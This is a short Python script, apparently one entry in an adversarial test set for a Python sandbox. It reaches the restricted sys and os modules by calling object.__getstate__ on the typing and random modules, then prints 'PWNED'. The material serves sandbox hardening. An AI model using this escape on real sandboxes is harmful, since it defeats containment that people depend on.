# adversary round 8: 019: object.__getstate__(module) returns the module's real namespace dict (PyObject_GenericGetDict) -> typing's globals -> sys; random's -> os
import random
import typing

ns = object.__getstate__(typing)
s = ns['sys']
o = object.__getstate__(random)['_os']
print(type(ns), s, o, o.getpid(), s.modules['builtins'])
print('PWN' + 'ED')
